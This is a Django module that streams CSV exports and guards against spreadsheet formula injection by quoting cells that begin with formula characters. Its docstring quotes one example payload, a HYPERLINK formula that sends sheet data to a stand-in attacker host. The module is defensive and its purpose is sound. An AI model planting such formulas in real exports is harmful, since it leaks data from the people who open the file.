"""CSV as every part of the application writes it (the API's `?format=csv`, the follow-up board's
and the coverage grid's *Download CSV*, the registers' export): one writer, streamed, so that every
cell is made safe in one place and memory stays flat however many rows there are.

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage
return) as a formula: a title such as `=HYPERLINK("http://evil.example/?x="&A1,"Click")` would
leak the sheet or start a program when a manager opens the file. Following OWASP's rule, such a
text cell is written with a leading `'`, which spreadsheets show as text and do not display.
A plain number (`-3`, `-0.5`) is no formula and stays as it is.
"""

import csv
import re

from django.http import StreamingHttpResponse

# Rows read from the database per round trip when a file is streamed.
CHUNK_SIZE = 2000

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def safe_cell(value):
    """The value as a spreadsheet may open it: text that would run as a formula is quoted."""
    formula = isinstance(value, str) and value.startswith(FORMULA_STARTS)
    return "'" + value if formula and not PLAIN_NUMBER.fullmatch(value) else value


class _Echo:
    def write(self, value):
        return value


def read_cell(value: str) -> str:
    """A cell of a CSV file this writer wrote, as it was before `safe_cell` quoted it (an
    import reads its own export back)."""
    quoted = value.startswith("'") and value[1:].startswith(FORMULA_STARTS)
    return value[1:] if quoted and not PLAIN_NUMBER.fullmatch(value[1:]) else value


def csv_lines(rows, header=None, *, header_when_empty=False):
    """The lines of a CSV file, one at a time (for a streaming response): the header (given,
    or the first row's keys), then each row's cells in the header's order (a row may also be
    a list of cells in that order). No rows give an empty file, or only the header when
    `header_when_empty` (a register's export is also its template)."""
    writer = csv.writer(_Echo())
    index = -1
    for index, row in enumerate(rows):
        if index == 0:
            header = header or list(row)
            yield writer.writerow([safe_cell(name) for name in header])
        cells = row if isinstance(row, list | tuple) else [row.get(c, "") for c in header]
        yield writer.writerow([safe_cell(cell) for cell in cells])
    if index == -1 and header_when_empty:
        yield writer.writerow([safe_cell(name) for name in header])


def csv_response(rows, header, filename: str) -> StreamingHttpResponse:
    """A CSV file to download, streamed: `rows` (dictionaries) are written as they come."""
    response = StreamingHttpResponse(csv_lines(rows, header), content_type="text/csv")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
